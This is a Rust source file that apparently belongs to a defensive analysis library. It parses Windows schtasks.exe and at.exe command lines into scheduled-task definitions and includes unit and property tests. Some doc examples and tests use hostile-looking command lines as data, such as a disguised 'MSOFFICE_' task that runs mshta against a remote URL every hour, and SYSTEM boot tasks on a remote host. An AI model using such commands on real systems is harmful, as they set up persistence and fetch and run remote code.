//! Command lines of `schtasks.exe` and `at.exe`.

use super::taskxml::{Principal, TaskAction, TaskDefinition, Trigger, TriggerKind};
use crate::time::Interval;

/// Splits a Windows command line into arguments (double quotes group; they are removed).
///
/// Every argument is returned; [`SchtasksCommand::parse`] reads at most
/// [`SchtasksCommand::MAX_ARGS`] of them.
///
/// # Example
/// ```
/// use beaconstat::lineage::split_command_line;
/// assert_eq!(split_command_line(r#"schtasks /tr "mshta.exe https://x/y" /f"#),
///            ["schtasks", "/tr", "mshta.exe https://x/y", "/f"]);
/// ```
pub fn split_command_line(s: &str) -> Vec<String> {
    split_at_most(s, usize::MAX).0
}

/// What a command line is made of, as Windows splits it for a program that takes its
/// arguments the simple way: characters of an argument, quotes (dropped, but they start an
/// argument: `""` is an empty one), and the end of an argument (unquoted whitespace after one).
#[derive(Clone, Copy)]
enum Piece {
    Char(char),
    Quote,
    End,
}

/// The pieces of `s` in order (the last argument has no `End`).
fn pieces(s: &str) -> impl Iterator<Item = Piece> + '_ {
    let (mut in_q, mut any) = (false, false);
    s.chars().filter_map(move |c| match c {
        '"' => {
            in_q = !in_q;
            any = true;
            Some(Piece::Quote)
        }
        c if c.is_whitespace() && !in_q => any.then(|| {
            any = false;
            Piece::End
        }),
        c => {
            any = true;
            Some(Piece::Char(c))
        }
    })
}

/// The first `max` arguments of `s`, and whether more followed. The work stops at the cap, so
/// a hostile line of millions of arguments costs at most `max` strings.
fn split_at_most(s: &str, max: usize) -> (Vec<String>, bool) {
    let mut out = Vec::new();
    let mut cur = String::new();
    let mut any = false;
    for p in pieces(s) {
        match p {
            Piece::Quote => any = true,
            Piece::End => {
                if out.len() == max {
                    return (out, true);
                }
                out.push(core::mem::take(&mut cur));
                any = false;
            }
            Piece::Char(c) => {
                if out.len() == max {
                    return (out, true);
                }
                cur.push(c);
                any = true;
            }
        }
    }
    if any {
        out.push(cur);
    }
    (out, false)
}

/// The task tool a command line runs, `"at"` or `"schtasks"`: its first argument, whose file
/// name (after the last `\\` or `/`), case-insensitively and with or without `.exe`, is one
/// of them. Reads the argument in place: no string is made for the many lines that run
/// something else.
fn task_tool(s: &str) -> Option<&'static str> {
    // The file name so far, lower-cased; longer than `schtasks.exe` (or not ASCII) is
    // neither tool.
    let mut name = [0u8; 12];
    let mut len = 0;
    let (mut other, mut any) = (false, false);
    // The first argument's pieces (an `End` comes only after one).
    for p in pieces(s).take_while(|p| !matches!(p, Piece::End)) {
        any = true;
        match p {
            Piece::Char('\\' | '/') => (len, other) = (0, false),
            Piece::Char(c) => match name.get_mut(len) {
                Some(slot) if c.is_ascii() && !other => {
                    *slot = c.to_ascii_lowercase() as u8;
                    len += 1;
                }
                _ => other = true,
            },
            Piece::Quote | Piece::End => {}
        }
    }
    if !any || other {
        return None;
    }
    let name = &name[..len];
    match name.strip_suffix(b".exe").unwrap_or(name) {
        b"at" => Some("at"),
        b"schtasks" => Some("schtasks"),
        _ => None,
    }
}

/// The verb of a `schtasks.exe` invocation.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
#[cfg_attr(feature = "serde", derive(serde::Serialize, serde::Deserialize))]
#[non_exhaustive]
pub enum SchtasksVerb {
    /// `/Create`.
    Create,
    /// `/Change`.
    Change,
    /// `/Delete`.
    Delete,
    /// `/Run`.
    Run,
    /// `/End`.
    End,
    /// `/Query` (enumeration, not a change).
    Query,
}

/// A parsed `schtasks.exe` (or `at.exe`) command line.
///
/// # Example
/// ```
/// use beaconstat::Interval;
/// use beaconstat::lineage::{SchtasksCommand, SchtasksVerb};
/// let c = SchtasksCommand::parse(
///     r#""C:\Windows\System32\schtasks.exe" /Create /sc MINUTE /MO 60 /TN MSOFFICE_ /TR "mshta.exe https://h/i.txt" /F"#,
/// ).unwrap();
/// assert_eq!(c.verb, Some(SchtasksVerb::Create));
/// assert_eq!(c.task_name.as_deref(), Some("MSOFFICE_"));
/// assert_eq!(c.definition().period(), Some(Interval::from_secs(3600)));
/// ```
#[derive(Debug, Clone, Default, PartialEq, Eq)]
#[cfg_attr(feature = "serde", derive(serde::Serialize, serde::Deserialize))]
#[non_exhaustive]
pub struct SchtasksCommand {
    /// The verb (`None` for `at.exe`, which always creates).
    pub verb: Option<SchtasksVerb>,
    /// True for `at.exe`.
    pub at: bool,
    /// `/TN`.
    pub task_name: Option<String>,
    /// `/TR` (or `at`'s command).
    pub task_run: Option<String>,
    /// `/SC` (upper-cased).
    pub schedule: Option<String>,
    /// `/MO`.
    pub modifier: Option<String>,
    /// `/RU`.
    pub run_as: Option<String>,
    /// `/XML` file.
    pub xml_file: Option<String>,
    /// `/S` remote system (or `at \\host`).
    pub remote_system: Option<String>,
    /// `/ST` start time (or `at`'s time).
    pub start_time: Option<String>,
    /// `/RL` run level (`HIGHEST`, `LIMITED`; upper-cased).
    pub run_level: Option<String>,
    /// The line had more than [`SchtasksCommand::MAX_ARGS`] arguments; those past the cap were
    /// not read (a `/TR` or `at` command among them is missing).
    pub truncated: bool,
}

impl SchtasksCommand {
    /// The most arguments [`SchtasksCommand::parse`] reads from one command line (real ones
    /// have a few dozen): memory and time stay bounded by it whatever the line.
    pub const MAX_ARGS: usize = 1024;

    /// Parses a command line whose program is `schtasks(.exe)` or `at(.exe)`; `None` otherwise.
    /// At most [`SchtasksCommand::MAX_ARGS`] arguments are read; past them
    /// [`truncated`](SchtasksCommand::truncated) is set.
    ///
    /// # Example
    /// ```
    /// use beaconstat::lineage::SchtasksCommand;
    /// let line = format!("at 13:20 cmd /c{}", " x".repeat(100_000));
    /// let c = SchtasksCommand::parse(&line).unwrap();
    /// assert!(c.at && c.truncated);
    /// assert_eq!(c.task_run.unwrap().split(' ').count(), SchtasksCommand::MAX_ARGS - 2);
    /// ```
    pub fn parse(command_line: &str) -> Option<SchtasksCommand> {
        // The program first, without a copy (most command lines are neither): the rest is
        // split only for `schtasks` and `at`.
        let name = task_tool(command_line)?;
        let (args, more) = split_at_most(command_line, Self::MAX_ARGS);
        let mut c = SchtasksCommand {
            truncated: more,
            ..SchtasksCommand::default()
        };
        if name == "at" {
            c.at = true;
            let mut rest = args[1..].iter().peekable();
            while let Some(a) = rest.next() {
                if let Some(h) = a.strip_prefix("\\\\") {
                    c.remote_system = Some(h.to_owned());
                } else if a.starts_with('/') {
                    continue;
                } else if c.start_time.is_none() && a.contains(':') {
                    c.start_time = Some(a.clone());
                } else {
                    let mut cmd = vec![a.clone()];
                    cmd.extend(rest.by_ref().cloned());
                    c.task_run = Some(cmd.join(" "));
                }
            }
            return Some(c);
        }
        let mut i = 1;
        while i < args.len() {
            let a = args[i].to_ascii_lowercase();
            let val = args.get(i + 1).cloned();
            let mut takes = true;
            match a.as_str() {
                "/create" => (c.verb, takes) = (Some(SchtasksVerb::Create), false),
                "/change" => (c.verb, takes) = (Some(SchtasksVerb::Change), false),
                "/delete" => (c.verb, takes) = (Some(SchtasksVerb::Delete), false),
                "/run" => (c.verb, takes) = (Some(SchtasksVerb::Run), false),
                "/end" => (c.verb, takes) = (Some(SchtasksVerb::End), false),
                "/query" => (c.verb, takes) = (Some(SchtasksVerb::Query), false),
                "/tn" => c.task_name = val,
                "/tr" => c.task_run = val,
                "/sc" => c.schedule = val.map(|v| v.to_ascii_uppercase()),
                "/mo" => c.modifier = val,
                "/ru" => c.run_as = val,
                "/xml" => c.xml_file = val,
                "/s" => c.remote_system = val,
                "/st" => c.start_time = val,
                "/rl" => c.run_level = val.map(|v| v.to_ascii_uppercase()),
                "/u" | "/p" | "/rp" | "/sd" | "/ed" | "/d" | "/m" | "/i" | "/et" | "/du" | "/ri" | "/fo" => {}
                _ => takes = false,
            }
            i += if takes { 2 } else { 1 };
        }
        Some(c)
    }

    /// True when the command creates or changes a task.
    pub fn is_change(&self) -> bool {
        self.at || matches!(self.verb, Some(SchtasksVerb::Create | SchtasksVerb::Change))
    }

    /// The task name with a leading `\` (`at` jobs have none: `None`).
    pub fn normalized_task_name(&self) -> Option<String> {
        self.task_name.as_deref().map(normalize_task_name)
    }

    /// The task definition the command line implies: `/TR` as an Exec action, `/SC` + `/MO` as
    /// a trigger (MINUTE → repetition of `/MO` minutes, HOURLY → hours, DAILY/WEEKLY → every
    /// `/MO` days/weeks, ONSTART → boot, ONLOGON → logon, ONEVENT → event, ONCE → time),
    /// `/RU` and `/RL` (HIGHEST → `HighestAvailable`, LIMITED → `LeastPrivilege`) as the
    /// principal.
    pub fn definition(&self) -> TaskDefinition {
        let mut d = TaskDefinition {
            enabled: true,
            ..TaskDefinition::default()
        };
        if let Some(tr) = &self.task_run {
            let (parts, _) = split_at_most(tr, Self::MAX_ARGS);
            if let Some((cmd, rest)) = parts.split_first() {
                d.actions.push(TaskAction::Exec {
                    command: cmd.clone(),
                    arguments: if rest.is_empty() { None } else { Some(rest.join(" ")) },
                    working_directory: None,
                });
            }
        }
        let mo: i64 = self
            .modifier
            .as_deref()
            .and_then(|m| m.parse().ok())
            .unwrap_or(1)
            .max(1);
        let sc = self.schedule.as_deref().unwrap_or(if self.at { "ONCE" } else { "" });
        let kind = match sc {
            "MINUTE" | "HOURLY" | "ONCE" => Some(TriggerKind::Time),
            "DAILY" => Some(TriggerKind::Daily),
            "WEEKLY" => Some(TriggerKind::Weekly),
            "MONTHLY" => Some(TriggerKind::Monthly),
            "ONSTART" => Some(TriggerKind::Boot),
            "ONLOGON" => Some(TriggerKind::Logon),
            "ONIDLE" => Some(TriggerKind::Idle),
            "ONEVENT" => Some(TriggerKind::Event),
            _ => None,
        };
        if let Some(kind) = kind {
            let mut t = Trigger::new(kind);
            t.start_boundary = self.start_time.clone();
            match sc {
                "MINUTE" => t.repetition = Some(Interval::from_secs(mo.saturating_mul(60))),
                "HOURLY" => t.repetition = Some(Interval::from_secs(mo.saturating_mul(3600))),
                "DAILY" | "WEEKLY" => t.every = u32::try_from(mo).ok(),
                _ => {}
            }
            d.triggers.push(t);
        }
        d.principal = Principal {
            user_id: self.run_as.clone(),
            run_level: self.run_level.as_deref().map(|r| match r {
                "HIGHEST" => "HighestAvailable".to_owned(),
                "LIMITED" => "LeastPrivilege".to_owned(),
                other => other.to_owned(),
            }),
            ..Principal::default()
        };
        d.uri = self.normalized_task_name();
        d
    }
}

/// `Name` → `\Name`; `\Folder\Name` unchanged; `/` separators become `\`.
pub(crate) fn normalize_task_name(n: &str) -> String {
    let mut buf = String::new();
    normalize_task_name_into(&mut buf, n);
    buf
}

/// [`normalize_task_name`] into `buf` (reused: no allocation per task event).
pub(crate) fn normalize_task_name_into<'b>(buf: &'b mut String, n: &str) -> &'b str {
    let n = n.trim();
    buf.clear();
    if !n.starts_with(['\\', '/']) {
        buf.push('\\');
    }
    // Most names have no `/`: copied whole, not split.
    if !n.as_bytes().contains(&b'/') {
        buf.push_str(n);
        return buf;
    }
    for (i, part) in n.split('/').enumerate() {
        if i > 0 {
            buf.push('\\');
        }
        buf.push_str(part);
    }
    buf
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    /// The program test as it was: the first argument split out as a string, its file name
    /// lower-cased, `.exe` stripped.
    fn task_tool_by_split(s: &str) -> Option<&'static str> {
        let (first, _) = split_at_most(s, 1);
        let prog = first.first()?;
        let name = prog.rsplit(['\\', '/']).next().unwrap_or(prog).to_ascii_lowercase();
        match name.strip_suffix(".exe").unwrap_or(&name) {
            "at" => Some("at"),
            "schtasks" => Some("schtasks"),
            _ => None,
        }
    }

    #[test]
    fn task_tool_read_in_place() {
        for (line, tool) in [
            ("schtasks /create /tn x", Some("schtasks")),
            (r#""C:\Windows\System32\SCHTASKS.EXE" /run"#, Some("schtasks")),
            (r"C:/Windows/system32/at.exe 13:00 cmd", Some("at")),
            ("  at", Some("at")),
            (r#"sch"tasks".exe /query"#, Some("schtasks")),
            (r#""C:\Program Files\at" x"#, Some("at")),
            ("schtasks.exe.exe /run", None),
            ("xschtasks /run", None),
            (r"C:\tools\", None),
            (r#""" schtasks"#, None),
            ("", None),
            ("   ", None),
            ("cmd.exe /c schtasks /run", None),
            (r"C:\Ünïcode\schtasks.exe /run", Some("schtasks")),
            ("schtäsks /run", None),
            ("schtasks\u{a0}/run", Some("schtasks")),
            ("schtasks\u{2003}x", Some("schtasks")),
        ] {
            assert_eq!(task_tool(line), tool, "{line:?}");
            assert_eq!(task_tool_by_split(line), tool, "{line:?}");
        }
    }

    proptest! {
        /// Reading the program in place agrees with splitting it out, on any text and on
        /// lines built from the pieces that matter (quotes, separators, whitespace, names).
        #[test]
        fn task_tool_agrees_with_the_split(
            any in ".{0,40}",
            pieces in proptest::collection::vec(
                prop_oneof![
                    Just("\""), Just("\\"), Just("/"), Just(" "), Just("\t"), Just("\u{a0}"),
                    Just("at"), Just("AT"), Just("schtasks"), Just("SchTasks"), Just(".exe"),
                    Just(".EXE"), Just("x"), Just("ü"), Just("C:"),
                ],
                0..12,
            ),
        ) {
            prop_assert_eq!(task_tool(&any), task_tool_by_split(&any));
            let built: String = pieces.concat();
            prop_assert_eq!(task_tool(&built), task_tool_by_split(&built), "{:?}", built);
        }
    }

    /// The buffer form names tasks as the trimmed, slash-turned, rooted text always did.
    #[test]
    fn task_names_normalised_into_a_buffer() {
        let old = |n: &str| {
            let n = n.trim().replace('/', "\\");
            if n.starts_with('\\') { n } else { format!("\\{n}") }
        };
        let mut buf = String::from("left over");
        for n in [
            "bou",
            r"\bou",
            " /a/b ",
            r"\Microsoft\Windows\X",
            "a//b/",
            "",
            "  ",
            "/",
        ] {
            assert_eq!(normalize_task_name_into(&mut buf, n), old(n), "{n:?}");
            assert_eq!(normalize_task_name(n), old(n));
        }
    }

    #[test]
    fn schtasks_variants() {
        let c = SchtasksCommand::parse(r#"schtasks  /create /F /tn \Microsoft\Windows\X /tr "C:\Windows\system32\cmd.exe /C notepad.exe" /sc ONSTART /ru system /S WORKSTATION6"#).unwrap();
        assert_eq!(c.verb, Some(SchtasksVerb::Create));
        assert_eq!(c.remote_system.as_deref(), Some("WORKSTATION6"));
        let d = c.definition();
        assert_eq!(d.triggers[0].kind, TriggerKind::Boot);
        assert_eq!(d.exec(), Some((r"C:\Windows\system32\cmd.exe", Some("/C notepad.exe"))));
        assert_eq!(d.principal.user_id.as_deref(), Some("system"));
        let c = SchtasksCommand::parse(r#""C:\Windows\System32\schtasks.exe" /create /xml c:\t\e.xml /tn elevator"#)
            .unwrap();
        assert_eq!(c.xml_file.as_deref(), Some(r"c:\t\e.xml"));
        assert_eq!(c.normalized_task_name().as_deref(), Some(r"\elevator"));
        let c = SchtasksCommand::parse("schtasks  /query /xml").unwrap();
        assert_eq!(c.verb, Some(SchtasksVerb::Query));
        assert!(!c.is_change());
        let c = SchtasksCommand::parse("at  13:20 /interactive cmd").unwrap();
        assert!(c.at && c.is_change());
        assert_eq!(
            (c.start_time.as_deref(), c.task_run.as_deref()),
            (Some("13:20"), Some("cmd"))
        );
        assert!(SchtasksCommand::parse("cmd.exe /c schtasks /create").is_none());
        let c = SchtasksCommand::parse("schtasks /create /sc daily /mo 10 /tn t /tr myapp.exe").unwrap();
        assert_eq!(c.definition().period(), Some(Interval::from_secs(864_000)));
        assert!(!c.truncated);
    }

    #[test]
    fn argument_cap() {
        let max = SchtasksCommand::MAX_ARGS;
        assert_eq!(split_at_most("a b  c", 2), (vec!["a".to_owned(), "b".to_owned()], true));
        assert_eq!(split_at_most("a b ", 2), (vec!["a".to_owned(), "b".to_owned()], false));
        assert_eq!(
            split_at_most(r#"a "" "#, 2),
            (vec!["a".to_owned(), String::new()], false)
        );
        // Exactly MAX_ARGS arguments: all read, nothing truncated.
        let line = format!("schtasks /create /tn t{}", " /f".repeat(max - 4));
        assert!(!SchtasksCommand::parse(&line).unwrap().truncated);
        let line = format!("{line} /f");
        let c = SchtasksCommand::parse(&line).unwrap();
        assert!(c.truncated);
        assert_eq!(c.task_name.as_deref(), Some("t"));
        // A schtasks line whose /TR comes after the cap: the command is missing, and it says so.
        let line = format!("schtasks /create{} /tr evil.exe", " /f".repeat(2 * max));
        let c = SchtasksCommand::parse(&line).unwrap();
        assert!(c.truncated && c.task_run.is_none());
    }

    #[test]
    fn huge_modifiers_saturate() {
        // Found by the windows_json fuzz target: `/MO` near i64::MAX overflowed `60 * mo`.
        for sc in ["MINUTE", "HOURLY"] {
            let c =
                SchtasksCommand::parse(&format!("schtasks /create /sc {sc} /mo 9223372036854775807 /tn t")).unwrap();
            assert_eq!(c.definition().period(), Some(Interval::from_micros(i64::MAX)), "{sc}");
        }
        let c = SchtasksCommand::parse("schtasks /create /sc daily /mo 4294967295 /tn t").unwrap();
        assert_eq!(c.definition().period(), Some(Interval::from_micros(i64::MAX)));
    }
}
